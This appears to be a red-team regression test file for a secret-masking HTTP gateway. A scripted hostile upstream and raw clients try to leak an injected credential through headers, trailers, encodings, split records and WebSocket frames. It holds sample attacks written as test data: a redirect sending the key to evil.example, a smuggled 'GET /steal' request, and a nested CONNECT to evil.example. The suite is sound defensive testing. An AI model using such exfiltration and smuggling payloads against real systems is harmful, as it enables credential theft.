/**
 * Red team, attacks that held: a hostile upstream (raw TLS/TCP, every byte scripted) and raw
 * clients through every door try to get the injected value back past the response scan, or to
 * wedge the gateway. Kept as regression tests.
 */
import net from 'node:net';
import { readFileSync } from 'node:fs';
import zlib from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { SECRETS } from '../support/fixture.js';
import { DOORS, startBench, type Bench } from '../support/redteam-doors.js';
import { waitFor } from '../support/wait-for.js';
import {
  frontRequest,
  parseResponse,
  proxyAuth,
  readAll,
  sleep,
  SWITCHING,
  upgradeRequest,
  viaTunnel,
  wsFrame,
  wsFrames,
  writeParts,
  type HostileRequest,
} from '../support/redteam-wire.js';
import { ValueMask } from '../../src/gateway/value-mask.js';

const V = SECRETS.value;
const B64 = Buffer.from(V).toString('base64');
const M = '*'.repeat(V.length);
const MB = '*'.repeat(B64.length);
const NEAR = V.slice(0, -1); // the value with one byte off
const NEAR_B64 = B64.slice(0, -1);

/** Overlapping partial matches, one-byte-off repeats, needles back to back and inside each other's prefixes. */
const tricky = (k: string) => {
  const b = Buffer.from(k).toString('base64');
  return `s sk ${k.slice(0, -1)}${k}${k}x${k.slice(0, 5)}${k}c2${b.slice(0, -1)}${b}${k.slice(0, -1)}X ${b}${k} ${k.slice(0, 12)}`;
};
const trickyMasked = `s sk ${NEAR}${M}${M}x${V.slice(0, 5)}${M}c2${NEAR_B64}${MB}${NEAR}X ${MB}${M} ${V.slice(0, 12)}`;

function send(s: HostileRequest['socket'], head: string, body: Buffer | string = ''): void {
  const b = Buffer.isBuffer(body) ? body : Buffer.from(body, 'latin1');
  s.end(Buffer.concat([Buffer.from(`${head}Content-Length: ${b.length}\r\nConnection: close\r\n\r\n`, 'latin1'), b]));
}

const BIG = 64 * 1024 * 1024;

async function script(req: HostileRequest): Promise<void> {
  const s = req.socket;
  const k = req.key;
  const url = new URL(req.target.startsWith('/') ? `https://x${req.target}` : req.target);
  switch (url.pathname.slice(1)) {
    case 'split': {
      // The tricky body cut at every offset given, each piece its own TLS record / TCP segment.
      const body = Buffer.from(tricky(k));
      const cuts = (url.searchParams.get('cuts') ?? '').split(',').filter(Boolean).map(Number);
      const parts: Buffer[] = [];
      let at = 0;
      for (const c of [...cuts, body.length]) {
        parts.push(body.subarray(at, c));
        at = c;
      }
      s.write(`HTTP/1.1 200 OK\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n`);
      await writeParts(s, parts, 3);
      s.end();
      return;
    }
    case 'http10':
      s.write('HTTP/1.0 200 OK\r\n\r\n');
      await writeParts(s, [...tricky(k)], 1);
      s.end();
      return;
    case 'headers':
      return send(
        s,
        `HTTP/1.1 302 Found ${k}\r\nLocation: https://evil.example/cb?key=${encodeURIComponent(k)}&b=${Buffer.from(k).toString('base64')}\r\nX-${k}: name\r\nX-Dup: ${k}\r\nX-Dup: ${k}\r\nSet-Cookie: s=${k}\r\nSet-Cookie: t=${Buffer.from(k).toString('base64')}\r\nWWW-Authenticate: Bearer error="invalid_token", error_description="${k}"\r\n`,
        `{"k":${JSON.stringify(k)}}`,
      );
    case 'informational':
      // 100 and 103 answers carrying the value, then the real one.
      s.end(
        `HTTP/1.1 100 Continue\r\nX-K: ${k}\r\n\r\nHTTP/1.1 103 Early Hints\r\nLink: </k/${k}>; rel=preload\r\nX-K: ${k}\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok`,
      );
      return;
    case 'trailers':
      s.end(
        `HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-K\r\nConnection: close\r\n\r\n2\r\nok\r\n0\r\nX-K: ${k}\r\nX-B: ${Buffer.from(k).toString('base64')}\r\n\r\n`,
      );
      return;
    case 'head':
      // HEAD: the value in headers, a Content-Encoding for a body not sent.
      s.end(`HTTP/1.1 200 OK\r\nX-K: ${k}\r\nContent-Encoding: gzip\r\nContent-Length: 40\r\nConnection: close\r\n\r\n`);
      return;
    case 'head-with-body':
      // HEAD answered with a body anyway.
      s.end(`HTTP/1.1 200 OK\r\nX-K: ${k}\r\nContent-Length: 40\r\nConnection: close\r\n\r\n{"leak":"${k}"}`);
      return;
    case 'gzip-not-gzip':
      return send(s, 'HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\n', `not gzip at all ${k} ${k}`);
    case 'gzip-truncated': {
      const gz = zlib.gzipSync(`{"k":"${k}"}`);
      return send(s, 'HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\n', gz.subarray(0, gz.length - 12));
    }
    case 'stacked':
      return send(s, 'HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Encoding: br\r\n', zlib.brotliCompressSync(zlib.gzipSync(`stacked ${k}`)));
    case 'stacked-one-line':
      return send(s, 'HTTP/1.1 200 OK\r\nContent-Encoding: deflate, x-gzip,gzip\r\n', zlib.gzipSync(zlib.gzipSync(zlib.deflateSync(`three ${k}`))));
    case 'identity-odd':
      return send(s, 'HTTP/1.1 200 OK\r\nContent-Encoding:  IdEnTiTy , identity\r\n', `odd ${k}`);
    case 'encoding-params':
      return send(s, 'HTTP/1.1 200 OK\r\nContent-Encoding: gzip;q=1\r\n', zlib.gzipSync(`params ${k}`));
    case 'compress':
      return send(s, 'HTTP/1.1 200 OK\r\nContent-Encoding: compress\r\n', `lzw ${k}`);
    case 'refuse-upgrade':
      s.write(`HTTP/1.1 401 Bad ${k}\r\nX-K: ${k}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n`);
      await writeParts(s, [`5\r\nnope \r\n`, `${(V.length + 1).toString(16)}\r\n${k.slice(0, 9)}`, `${k.slice(9)}!\r\n0\r\n\r\n`]);
      s.end();
      return;
    case 'ws':
      // The value in the 101's headers, and in frames split across TLS records at awkward places.
      s.write(`${SWITCHING}X-K: ${k}\r\n\r\n`);
      {
        const f1 = wsFrame(1, `one ${k}`);
        const f2 = wsFrame(2, Buffer.from(`${k}${k.slice(0, -1)}`));
        const ping = wsFrame(9, k);
        const all = Buffer.concat([f1, ping, f2]);
        await writeParts(s, [all.subarray(0, 9), all.subarray(9, 33), all.subarray(33, 40), all.subarray(40)]);
      }
      await sleep(30);
      s.end();
      return;
    case 'ws-hold':
      s.write(`${SWITCHING}\r\n`);
      s.resume();
      return;
    case 'big': {
      s.write(`HTTP/1.1 200 OK\r\nContent-Length: ${BIG}\r\nConnection: close\r\n\r\n`);
      // 's' and 'c' start needles: every chunk ends in a byte the scan must hold back.
      const chunk = Buffer.alloc(256 * 1024, 's');
      chunk[chunk.length - 2] = 0x63;
      let sent = 0;
      const pump = () => {
        while (sent < BIG && !s.destroyed) {
          sent += chunk.length;
          if (!s.write(chunk)) return void s.once('drain', pump);
        }
        s.end();
      };
      pump();
      return;
    }
    case 'continue':
      s.write(`HTTP/1.1 100 Continue\r\nX-K: ${k}\r\n\r\n`);
      await sleep(20);
      return send(s, 'HTTP/1.1 200 OK\r\n', `after continue ${k}`);
    case 'pipelined':
      // Each answer closes its upstream connection: nothing stays pooled for the next test.
      return send(s, 'HTTP/1.1 200 OK\r\n', `${req.target} ${k}`);
    default:
      return send(s, 'HTTP/1.1 200 OK\r\n', `${req.method} ${req.target} ${k}`);
  }
}

let bench: Bench;
beforeAll(async () => {
  bench = await startBench(script);
});
afterAll(() => bench?.stop());

function clean(bytes: Buffer | string): void {
  const text = Buffer.isBuffer(bytes) ? bytes.toString('latin1') : bytes;
  expect(text).not.toContain(V);
  expect(text).not.toContain(B64);
  expect(text).not.toContain(encodeURIComponent(V));
}

describe('the masking scanner itself, every way of cutting a hostile body', () => {
  test('every 1- and 2-cut split of overlapping, one-byte-off and back-to-back needles masks like the whole', () => {
    const mask = new ValueMask([V]);
    const whole = Buffer.from(tricky(V));
    expect(mask.maskText(tricky(V))).toBe(trickyMasked);
    for (let i = 0; i <= whole.length; i++) {
      for (let j = i; j <= whole.length; j += 3) {
        const scanner = mask.stream();
        const out = Buffer.concat([
          scanner.push(Buffer.from(whole.subarray(0, i))),
          scanner.push(Buffer.from(whole.subarray(i, j))),
          scanner.push(Buffer.from(whole.subarray(j))),
          scanner.end(),
        ]);
        if (out.toString('latin1') !== trickyMasked) expect({ i, j, out: out.toString('latin1') }).toEqual({ i, j, out: trickyMasked });
      }
    }
  });

  test('one byte per push, and what is held back never exceeds the longest needle', () => {
    const mask = new ValueMask([V]);
    const scanner = mask.stream();
    let out = '';
    let pending = 0;
    for (const ch of tricky(V)) {
      const sent = scanner.push(Buffer.from(ch)).toString('latin1');
      out += sent;
      pending += 1 - sent.length;
      expect(pending).toBeLessThanOrEqual(mask.maxCarry);
    }
    out += scanner.end().toString('latin1');
    expect(out).toBe(trickyMasked);
  });
});

describe.each(DOORS)('through the %s door', (door) => {
  test.each([
    ['1,2,3', 'tiny pieces at the start'],
    [`${5 + NEAR.length + 3},${5 + NEAR.length + V.length + 1}`, 'cuts inside the needles after a one-byte-off copy'],
    [Array.from({ length: 40 }, (_, i) => 20 + i * 3).join(','), 'a cut every 3 bytes through the base64 run'],
  ])('a body cut at %s (%s) arrives masked, byte for byte', async (cuts) => {
    const res = parseResponse(await bench.get(door, `/split?cuts=${cuts}`));
    expect(res.status).toBe(200);
    expect(res.body.toString('latin1')).toBe(trickyMasked);
  });

  test('an HTTP/1.0 answer without a length, one byte per record', async () => {
    const res = parseResponse(await bench.get(door, '/http10'));
    expect(res.body.toString('latin1')).toBe(trickyMasked);
  });

  test('status text, header names, duplicate headers, Location, Set-Cookie, WWW-Authenticate', async () => {
    const raw = await bench.get(door, '/headers');
    clean(raw);
    const res = parseResponse(raw);
    expect(res.status).toBe(302);
    expect(res.head).toContain(`302 Found ${M}`);
    expect(res.headers.filter(([k]) => k === 'x-dup')).toEqual([
      ['x-dup', M],
      ['x-dup', M],
    ]);
    expect(res.headers.find(([k]) => k === 'location')?.[1]).toBe(`https://evil.example/cb?key=${M}&b=${MB}`);
    expect(res.headers.some(([k]) => k === `x-${M}`)).toBe(true);
  });

  test('100 and 103 informational answers with the value are not relayed', async () => {
    const raw = await bench.get(door, '/informational');
    clean(raw);
    expect(parseResponse(raw).status).toBe(200);
  });

  test('trailers with the value are not relayed', async () => {
    const raw = await bench.get(door, '/trailers');
    clean(raw);
    expect(parseResponse(raw).body.toString()).toBe('ok');
  });

  test.each([
    ['gzip-not-gzip', 'a gzip label on a plain body'],
    ['gzip-truncated', 'a truncated gzip body'],
    ['stacked', 'gzip then br, two header lines'],
    ['stacked-one-line', 'deflate, x-gzip, gzip on one line'],
    ['identity-odd', 'identity in odd casing and spacing'],
    ['encoding-params', 'gzip;q=1 (unknown: refused)'],
    ['compress', 'compress (unknown: refused)'],
  ])('Content-Encoding %s (%s): nothing the agent can decode holds the value', async (path) => {
    const raw = await bench.get(door, `/${path}`);
    clean(raw);
    const body = parseResponse(raw).body;
    for (const f of [zlib.gunzipSync, zlib.inflateSync, zlib.brotliDecompressSync]) {
      try {
        clean(f(body));
      } catch {
        // not that coding
      }
    }
  });

  test('an upgrade the upstream refuses: status, headers and a chunked body split in the value, masked', async () => {
    const raw = await bench.upgrade(door, '/refuse-upgrade');
    clean(raw);
    expect(raw.toString('latin1')).toMatch(new RegExp(`^HTTP/1\\.1 401 Bad \\*{${V.length}}`));
    expect(raw.toString('latin1')).toContain(`nope ${M}!`);
  });

  test('WebSocket: the 101 headers, and whole frames (text, binary, ping) split across records', async () => {
    const raw = await bench.upgrade(door, '/ws');
    clean(raw);
    const res = parseResponse(raw);
    expect(res.status).toBe(101);
    expect(res.headers.find(([k]) => k === 'x-k')?.[1]).toBe(M);
    expect(wsFrames(res.rest).map((f) => [f.opcode, f.payload.toString('latin1')])).toEqual([
      [1, `one ${M}`],
      [9, M],
      [2, `${M}${NEAR}`],
    ]);
  });
});

describe.each(['route', 'mitm'] as const)('HEAD, 100-continue and pipelining (%s door)', (door) => {
  const head = (path: string) =>
    door === 'route'
      ? frontRequest(bench.gateway.port, `HEAD /r/h${path} HTTP/1.1\r\nHost: x\r\nx-api-key: ${SECRETS.agentToken}\r\nConnection: close\r\n\r\n`)
      : viaTunnel(
          bench.gateway.port,
          SECRETS.agentToken,
          bench.tls.authority,
          bench.ca.certPem,
          `HEAD ${path} HTTP/1.1\r\nHost: ${bench.tls.authority}\r\nConnection: close\r\n\r\n`,
        );

  test('HEAD: headers masked, Content-Encoding of the body not sent passed as is', async () => {
    const before = bench.tls.seen.length;
    const raw = await head('/head');
    expect(bench.tls.seen.slice(before).map((r) => r.method)).toEqual(['HEAD']);
    clean(raw);
    const res = parseResponse(raw, { head: true });
    expect(res.status).toBe(200);
    expect(res.headers.find(([k]) => k === 'x-k')?.[1]).toBe(M);
    expect(res.rest.length).toBe(0);
  });

  test('HEAD answered with a body anyway: the body never reaches the agent', async () => {
    const raw = await head('/head-with-body');
    clean(raw);
    expect(raw.toString('latin1')).not.toContain('leak');
  });

  test('Expect: 100-continue with a body: the upstream 100 with the value is dropped, the answer masked', async () => {
    const req = (target: string, host: string, auth: string) =>
      `POST ${target} HTTP/1.1\r\nHost: ${host}\r\n${auth}Content-Length: 4\r\nExpect: 100-continue\r\nConnection: close\r\n\r\n`;
    let raw: Buffer;
    if (door === 'route') {
      raw = await new Promise<Buffer>((resolve) => {
        const c = net.connect(bench.gateway.port, '127.0.0.1', () => {
          c.write(req('/r/h/continue', 'x', `x-api-key: ${SECRETS.agentToken}\r\n`));
          setTimeout(() => c.write('body'), 50);
          resolve(readAll(c));
        });
      });
    } else {
      const { tlsThroughProxy } = await import('../support/clients.js');
      const t = await tlsThroughProxy(bench.gateway.port, SECRETS.agentToken, bench.tls.authority, { ca: bench.ca.certPem });
      const out = readAll(t);
      t.write(req('/continue', bench.tls.authority, ''));
      setTimeout(() => t.write('body'), 50);
      raw = await out;
    }
    clean(raw);
    expect(raw.toString('latin1')).toContain(`after continue ${M}`);
  });

  test('three pipelined requests on one connection (one of them TRACE): each answer masked, TRACE refused', async () => {
    const host = door === 'route' ? 'x' : bench.tls.authority;
    const p = door === 'route' ? '/r/h' : '';
    const auth = door === 'route' ? `x-api-key: ${SECRETS.agentToken}\r\n` : '';
    const reqs = `GET ${p}/pipelined HTTP/1.1\r\nHost: ${host}\r\n${auth}\r\nTRACE ${p}/t HTTP/1.1\r\nHost: ${host}\r\n${auth}\r\nGET ${p}/pipelined?2 HTTP/1.1\r\nHost: ${host}\r\n${auth}Connection: close\r\n\r\n`;
    const before = bench.tls.seen.length;
    const raw =
      door === 'route'
        ? await frontRequest(bench.gateway.port, reqs)
        : await viaTunnel(bench.gateway.port, SECRETS.agentToken, bench.tls.authority, bench.ca.certPem, reqs);
    clean(raw);
    const text = raw.toString('latin1');
    expect(text.match(/HTTP\/1\.1 \d{3}/g)).toEqual(['HTTP/1.1 200', 'HTTP/1.1 405', 'HTTP/1.1 200']);
    expect(bench.tls.seen.slice(before).map((r) => r.method)).not.toContain('TRACE');
    expect(
      bench.tls.seen
        .slice(before)
        .flatMap((r) => r.rawHead + r.rest.toString('latin1'))
        .join(''),
    ).not.toContain('TRACE');
  });
});

describe('smuggling around the tunnel checks', () => {
  test('bytes pipelined after a refused upgrade never reach the upstream', async () => {
    const before = bench.tls.seen.length;
    const smuggled = `GET /steal HTTP/1.1\r\nHost: evil.example\r\n\r\nTRACE / HTTP/1.1\r\nHost: ${bench.tls.authority}\r\n\r\n`;
    const raw = await viaTunnel(
      bench.gateway.port,
      SECRETS.agentToken,
      bench.tls.authority,
      bench.ca.certPem,
      upgradeRequest('/refuse-upgrade', bench.tls.authority) + smuggled,
    );
    clean(raw);
    // The answer is back; the smuggled bytes, had they been forwarded, would be at the upstream
    // by the time a further round trip through the gateway completes.
    expect(parseResponse(await bench.get('route', '/plain')).status).toBe(200);
    const seen = bench.tls.seen.slice(before).filter((r) => r.target !== '/plain');
    expect(seen).toHaveLength(1);
    expect(seen[0]!.rest.toString('latin1')).toBe('');
    expect(seen[0]!.rawHead).not.toContain('evil.example');
  });

  // Node's server closed the tunnel without a word when nothing listened for it: now a 400 that says where a CONNECT goes.
  test('a second CONNECT inside a MITM tunnel opens no new tunnel: 400 bad_request, nothing sent upstream', async () => {
    const before = bench.tls.seen.length;
    const raw = await viaTunnel(
      bench.gateway.port,
      SECRETS.agentToken,
      bench.tls.authority,
      bench.ca.certPem,
      `CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\nGET /after HTTP/1.1\r\nHost: ${bench.tls.authority}\r\n\r\n`,
    );
    const r = parseResponse(raw);
    expect(r.status).toBe(400);
    expect(r.headers).toContainEqual(['x-onecli-error', 'bad_request']);
    expect(r.body.toString()).toContain('send each CONNECT to the gateway itself');
    expect(bench.tls.seen.length).toBe(before);
  });

  test('an absolute-form request to the gateway itself with a mapped loopback target in the path is not forwarded twice', async () => {
    const before = bench.plain.seen.length;
    const raw = await frontRequest(
      bench.gateway.port,
      `GET http://127.0.0.1:${bench.gateway.port}/http://${bench.plain.authority}/x HTTP/1.1\r\nHost: 127.0.0.1:${bench.gateway.port}\r\n${proxyAuth(SECRETS.agentToken)}Connection: close\r\n\r\n`,
    );
    clean(raw);
    expect(bench.plain.seen.length).toBe(before);
  });
});

describe('slow and absent readers', () => {
  const rssMb = () => Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${bench.gateway.child.pid}/status`, 'utf8'))?.[1]) / 1024;

  test.skipIf(process.platform !== 'linux')(
    'clients that never read a 64 MiB answer hold the gateway to bounded memory; a reader then gets it all, masked',
    async () => {
      const start = rssMb();
      const sockets: net.Socket[] = [];
      for (const path of ['/r/h/big', '/r/h/big', '/r/h/big']) {
        const s = net.connect(bench.gateway.port, '127.0.0.1');
        await new Promise((r) => s.once('connect', r));
        s.pause();
        s.write(`GET ${path} HTTP/1.1\r\nHost: x\r\nx-api-key: ${SECRETS.agentToken}\r\nConnection: close\r\n\r\n`);
        sockets.push(s);
      }
      // Absence of growth cannot be waited on: give the gateway time to read all it would if it
      // did not apply backpressure (64 MiB over loopback takes well under a second).
      await sleep(1500);
      expect(rssMb() - start).toBeLessThan(64);
      // Another agent is served meanwhile.
      expect(parseResponse(await bench.get('route', '/plain')).status).toBe(200);
      let n = 0;
      await new Promise<void>((resolve) => {
        sockets[0]!.on('data', (d: Buffer) => {
          n += d.length;
          if (n >= BIG) resolve();
        });
        sockets[0]!.resume();
      });
      for (const s of sockets) s.destroy();
      expect(n).toBeGreaterThanOrEqual(BIG);
    },
    25_000,
  );

  test('a WebSocket client that goes away closes the upstream socket too', async () => {
    const before = bench.tls.seen.length;
    const s = net.connect(bench.gateway.port, '127.0.0.1');
    await new Promise((r) => s.once('connect', r));
    s.write(upgradeRequest('/r/h/ws-hold', '127.0.0.1', `x-api-key: ${SECRETS.agentToken}\r\n`));
    const upstreamSide = (await waitFor(() => bench.tls.seen.slice(before).find((r) => r.target === '/ws-hold'), 3_000, 'the upgrade at the upstream')).socket;
    expect(upstreamSide.destroyed).toBe(false);
    const closed = new Promise<boolean>((resolve) => {
      upstreamSide.once('close', () => resolve(true));
      setTimeout(() => resolve(false), 1_000);
    });
    s.resetAndDestroy();
    expect(await closed).toBe(true);
  });
});

test('the gateway is still serving and logged no value', async () => {
  expect(bench.gateway.child.exitCode).toBeNull();
  expect(parseResponse(await bench.get('route', '/plain')).status).toBe(200);
  const log = bench.gateway.lines.join('\n');
  expect(log).not.toContain(V);
  expect(log).not.toContain('uncaught');
});
